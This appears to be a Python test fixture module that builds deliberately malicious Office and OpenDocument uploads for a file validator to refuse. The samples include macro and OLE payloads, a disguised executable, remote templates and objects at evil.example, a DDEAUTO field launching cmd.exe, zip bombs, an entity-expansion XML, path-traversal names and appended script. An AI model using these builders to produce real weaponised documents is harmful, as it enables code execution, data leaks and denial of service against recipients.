"""Office and OpenDocument files with forbidden content."""

import io
import struct
import zipfile

from tests.uploads.files import ODT, SHEET, SLIDES, WORD, WORD_MACROS, office, package

RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
ODS = "application/vnd.oasis.opendocument.spreadsheet"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 64


def related(kind: str, target: str, *, mode: str = "External") -> str:
    """Return a list of relationships with one."""
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{RELATION}/{kind}" Target="{target}" '
        f'TargetMode="{mode}"/></Relationships>'
    )


def field(*runs: str) -> str:
    """Return a Word text with one field, whose words lie in runs."""
    words = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    return (
        "<w:document "
        'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f"<w:p>{words}</w:p></w:document>"
    )


def with_types(kind: str, *more: str) -> bytes:
    """Return an office document whose list names further content types."""
    made = "".join(
        f'<Override PartName="/{number}" ContentType="{name}"/>' for number, name in enumerate(more)
    )
    types = f'<Types><Override PartName="/main.xml" ContentType="{kind}.main+xml"/>{made}</Types>'
    return repacked({"[Content_Types].xml": types.encode(), "main.xml": b"<document/>"})


def repacked(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as file:
        for name, content in members.items():
            file.writestr(name, content)
    return out.getvalue()


def odf(kind: str = ODT, **members: bytes | str) -> bytes:
    return package(mimetype=kind, **({"content.xml": "<x/>"} | members))


def content(inside: str) -> dict[str, str]:
    """Return an OpenDocument's content with this inside."""
    names = ("office", "script", "draw", "table", "text")
    declared = " ".join(
        f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"' for name in names
    )
    return {
        "content.xml": (
            f'<office:document-content {declared} xmlns:xlink="http://www.w3.org/1999/xlink">'
            f"{inside}</office:document-content>"
        )
    }


def lying() -> bytes:
    """Return a document whose directory claims that a bomb has ten bytes."""
    raw = bytearray(office(WORD, bomb=b"\0" * 20_000_000))
    at = raw.rindex(b"PK\x01\x02")
    raw[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(raw)


def encrypted() -> bytes:
    """Return a document whose entries are marked as encrypted."""
    raw = bytearray(office(WORD))
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = -1
        while (at := raw.find(mark, at + 1)) >= 0:
            raw[at + place] |= 1
    return bytes(raw)


def twice() -> bytes:
    """Return a document with two main parts of one name: readers differ in which one they show."""
    out = io.BytesIO(office(WORD))
    with zipfile.ZipFile(out, "a") as file:
        file.writestr("MAIN.xml", "<other/>")
    return out.getvalue()


ENTITIES = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><Types>&b;</Types>'
WORKBOOK = office(SHEET)
WITH_A_DIAGRAM = office(WORD, word__embeddings__Microsoft_Excel_Sheet1=WORKBOOK)
WITH_A_LINK = office(
    WORD, **{"word/_rels/document.xml.rels": related("hyperlink", "https://lindnas.example/plan")}
)
AS_LIBREOFFICE = odf(
    **{
        "Configurations2/accelerator/current.xml": "",
        "META-INF/manifest.xml": (
            '<!DOCTYPE manifest PUBLIC "-//OpenOffice.org//DTD Manifest 1.0//EN" '
            '"Manifest.dtd"><manifest/>'
        ),
        "meta.xml": (
            '<m xmlns:xlink="http://www.w3.org/1999/xlink"><template '
            'xlink:href="../../mallar/kommun.ott"/></m>'
        ),
        **content(
            '<office:scripts/><draw:image xlink:href="Pictures/a.png"/><text:a '
            'xlink:href="https://lindnas.example">x</text:a>'
        ),
    }
)
BOMB = office(SHEET, bomb=b"\0" * 20_000_000)
REFUSED: dict[str, dict[str, tuple[str, bytes]]] = {
    "macros": {
        "docm renamed": ("docx", office(WORD_MACROS, word__vbaProject=OLE)),
        "xlsm renamed": (
            "xlsx",
            office("application/vnd.ms-excel.sheet.macroEnabled", xl__vbaProject=OLE),
        ),
        "pptm renamed": (
            "pptx",
            office("application/vnd.ms-powerpoint.presentation.macroEnabled", ppt__vbaProject=OLE),
        ),
        "program in an ordinary document": ("docx", office(WORD, word__vbaProject=OLE)),
        "program by its type alone": (
            "docx",
            with_types(WORD, "application/vnd.ms-office.vbaProject"),
        ),
        "macro sheet of old": (
            "xlsx",
            with_types(SHEET, "application/vnd.ms-excel.macrosheet+xml"),
        ),
        "ActiveX": ("docx", office(WORD, word__activeX__activeX1="<x/>")),
        "Basic in a text": ("odt", odf(Basic__Standard__Module1="<x/>")),
        "scripts in a sheet": ("ods", odf(ODS, Scripts__python__a="print(1)")),
        "listener": (
            "odt",
            odf(**content('<script:event-listener script:language="ooo:script"/>')),
        ),
    },
    "embedded": {
        "OLE object": ("docx", office(WORD, word__embeddings__oleObject1=OLE)),
        "OLE under another name": ("pptx", office(SLIDES, ppt__media__image1=OLE)),
        "program": ("docx", office(WORD, word__media__image1=b"MZ\x90\x00")),
        "page": ("docx", office(WORD, **{"word/page.html": "<html/>"})),
        "page that is drawn in": (
            "docx",
            office(
                WORD,
                **{"word/_rels/document.xml.rels": related("aFChunk", "a.mht", mode="Internal")},
            ),
        ),
        "archive": ("docx", office(WORD, word__archive=package(a="b"))),
        "archive in a workbook in a text": (
            "docx",
            office(WORD, word__embeddings__x=office(SHEET, xl__embeddings__y=WORKBOOK)),
        ),
        "object of a text": ("odt", odf(**{"Object 1/content.xml": "<x/>"})),
        "plug-in of a text": ("odt", odf(**content('<draw:plugin xlink:href="Pictures/a"/>'))),
    },
    "external": {
        "template": (
            "docx",
            office(
                WORD,
                **{
                    "word/_rels/settings.xml.rels": related(
                        "attachedTemplate", "https://evil.example/t.dotm"
                    )
                },
            ),
        ),
        "picture": (
            "docx",
            office(
                WORD,
                **{"word/_rels/document.xml.rels": related("image", "file:////evil.example/p.png")},
            ),
        ),
        "object": (
            "pptx",
            office(
                SLIDES,
                **{"ppt/_rels/slide1.xml.rels": related("oleObject", "https://evil.example/o")},
            ),
        ),
        "workbook": ("xlsx", office(SHEET, xl__externalLinks__externalLink1="<x/>")),
        "query": ("xlsx", office(SHEET, **{"xl/connections.xml": "<connections/>"})),
        "field that starts a program": (
            "docx",
            office(
                WORD, **{"word/document.xml": field("DD", "EAUTO c:\\\\windows\\\\cmd.exe", " x")}
            ),
        ),
        "sheet's source": (
            "ods",
            odf(ODS, **content('<table:table-source xlink:href="https://evil.example/a.ods"/>')),
        ),
        "text's picture": (
            "odt",
            odf(**content('<draw:image xlink:href="https://evil.example/p.png"/>')),
        ),
    },
    "locked": {
        "entries": ("docx", encrypted()),
        "OpenDocument": ("odt", odf(**{"META-INF/manifest.xml": "<m><encryption-data/></m>"})),
    },
    "damaged": {
        "cut": ("docx", office(WORD)[:80]),
        "entities": ("docx", repacked({"[Content_Types].xml": ENTITIES, "main.xml": b""})),
        "names that climb": ("docx", office(WORD, **{"../../evil.xml": "<x/>"})),
        "bytes of which the directory lies": ("docx", lying()),
        "two of one name": ("docx", twice()),
        "packed in another way": (
            "docx",
            repacked({"[Content_Types].xml": b"<Types/>"}, zipfile.ZIP_LZMA),
        ),
        "list in UTF-16": (
            "docx",
            office(
                WORD,
                **{"word/_rels/a.rels": related("image", "https://evil.example").encode("utf-16")},
            ),
        ),
    },
    "around": {
        "bytes behind": ("docx", office(WORD) + b"<script>alert(1)</script>"),
        "a second archive behind": ("docx", package(a="b") + office(WORD)),
    },
    "bomb": {
        "bytes": ("docx", office(WORD, bomb=b"\0" * 20_000_000)),
        "entries": ("docx", office(WORD, **{f"f{number}": "" for number in range(2001)})),
        "bytes in a workbook in a text": (
            "docx",
            office(WORD, word__embeddings__Microsoft_Excel_Sheet1=BOMB),
        ),
        "OpenDocument": ("ods", odf(ODS, bomb=b"\0" * 20_000_000)),
    },
    "kind": {
        "document in front of which something stands": ("docx", b"En plan." + office(WORD)),
        "document of no kind": ("docx", repacked({"[Content_Types].xml": b"<Types/>"})),
        "drawing": ("odt", odf("application/vnd.oasis.opendocument.graphics")),
    },
}
